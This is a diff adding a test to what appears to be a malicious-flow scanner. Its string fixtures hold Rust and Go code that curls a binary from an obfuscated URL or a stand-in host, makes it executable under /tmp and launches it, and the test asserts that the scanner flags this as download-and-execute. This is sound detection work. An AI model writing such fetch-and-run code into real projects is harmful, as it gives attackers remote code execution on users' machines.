@@ -280,3 +280,20 @@ fn rust_keys_matched_in_scanned_files_and_posted_are_a_flow() {
     assert!(super::names::is_key_pattern(r"[1-9A-HJ-NP-Za-km-z]{86,88}"));
     assert!(!super::names::is_key_pattern(r"[1-9A-HJ-NP-Za-km-z]{32,44}"), "addresses are public");
 }
+
+#[test]
+fn rust_and_go_downloads_saved_to_a_file_then_started_are_download_exec() {
+    let rs = "use std::process::Command;\n\nfn fetch() {\n    let url = decode(\"68747470\");\n    let path = \"/tmp/cache/upd.bin\";\n\
+              \x20   let _ = Command::new(\"curl\").args([\"-s\", \"-o\", path, &url]).status();\n\
+              \x20   let _ = Command::new(\"chmod\").args([\"+x\", path]).status();\n    let _ = Command::new(path).spawn();\n}\n";
+    let out = ends(&flows(&[("src/lib.rs", rs)]));
+    assert_eq!(out, vec![(RuleId::DownloadExec, "src/lib.rs".to_owned(), 8, Some("src/lib.rs".to_owned()), 6)]);
+    let go = "package main\n\nimport \"os/exec\"\n\nfunc main() {\n\texec.Command(\"curl\", \"-o\", \"/tmp/x/agent\", \"https://h.invalid/a\").Run()\n\
+              \texec.Command(\"/tmp/x/agent\").Start()\n}\n";
+    assert_eq!(ends(&flows(&[("main.go", go)])).len(), 1);
+    // A download saved and only read, and a vendor's installer saved and run.
+    let kept = rs.replace("Command::new(path).spawn()", "std::fs::read(path)");
+    assert_eq!(ends(&flows(&[("src/lib.rs", &kept)])), vec![]);
+    let vendor = go.replace("https://h.invalid/a", "https://sh.rustup.rs");
+    assert_eq!(ends(&flows(&[("main.go", &vendor)])), vec![]);
+}
